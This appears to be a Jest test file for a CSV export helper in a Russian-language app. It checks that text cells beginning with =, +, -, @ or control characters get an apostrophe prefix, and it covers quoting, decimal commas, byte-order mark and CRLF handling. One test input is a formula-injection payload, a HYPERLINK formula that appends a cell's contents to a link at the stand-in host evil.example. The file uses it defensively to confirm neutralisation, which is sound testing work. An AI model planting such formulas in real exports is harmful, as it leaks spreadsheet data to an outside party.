import { csvCell, csvRow, toCsv } from './csv';

describe('csvCell: a text cell never starts a formula', () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?"&A1;"Нажмите")', `"'=HYPERLINK(""http://evil.example/?""&A1;""Нажмите"")"`],
    ['=1+1', `"'=1+1"`],
    ['+SUM(1;2)', `"'+SUM(1;2)"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\0=1+1', `"'\0=1+1"`],
    ['+79123456789', `"'+79123456789"`],
    ['-', `"'-"`],
  ])('%j → %s', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  test.each([
    ['Анна Петрова', 'Анна Петрова'],
    ['Пётр «Ракетка» Иванов', 'Пётр «Ракетка» Иванов'],
    ['a=1', 'a=1'],
    [' =1+1', ' =1+1'],
    ['—', '—'],
    ['2026-11-24T17:00:00.000Z', '2026-11-24T17:00:00.000Z'],
    ['', ''],
  ])('%j is written as it is', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  test.each([
    ['Корт 1; крытый', '"Корт 1; крытый"'],
    ['Агент не ответил, команда отменена', '"Агент не ответил, команда отменена"'],
    ['Игрок "Анна"', '"Игрок ""Анна"""'],
    ['"', '""""'],
    ['первая\nвторая', '"первая\nвторая"'],
    ['первая\r\nвторая', '"первая\r\nвторая"'],
    ['имя\tфамилия', '"имя\tфамилия"'],
    // A separator cannot start a new cell either: `a;=1` stays one cell, starting with `a`.
    ['a;=1+1', '"a;=1+1"'],
    ['a,=1+1', '"a,=1+1"'],
  ])('%j is quoted: %s', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  test('a number is a number: negative, fractional with a decimal comma, never prefixed', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(0.5)).toBe('0,5');
    expect(csvCell(-1.25)).toBe('-1,25');
  });

  test('no value is an empty cell; neither is a number that is none', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('');
  });

  test('the same text as a string is text: "-3" is neutralised, -3 is not', () => {
    expect(csvCell('-3')).toBe(`"'-3"`);
    expect(csvCell(-3)).toBe('-3');
  });
});

describe('csvRow and toCsv: the file a Russian spreadsheet opens', () => {
  test('a row joins its cells with `;`', () => {
    expect(csvRow(['Анна', 3, null, '+SUM(1;2)', -2])).toBe(`Анна;3;;"'+SUM(1;2)";-2`);
  });

  test('a file: the byte-order mark, CRLF after every row, an empty row for an empty line', () => {
    expect(toCsv([['Игрок', 'Неявки'], ['@SUM(1+1)', 2], [], ['Неделя с', 'Неявки'], ['2027-08-30', 1]])).toBe(
      `\uFEFFИгрок;Неявки\r\n"'@SUM(1+1)";2\r\n\r\nНеделя с;Неявки\r\n2027-08-30;1\r\n`,
    );
  });

  test('a cell that holds CR/LF stays one cell of its row', () => {
    expect(toCsv([['a\r\nb', 'c']])).toBe('\uFEFF"a\r\nb";c\r\n');
  });
});
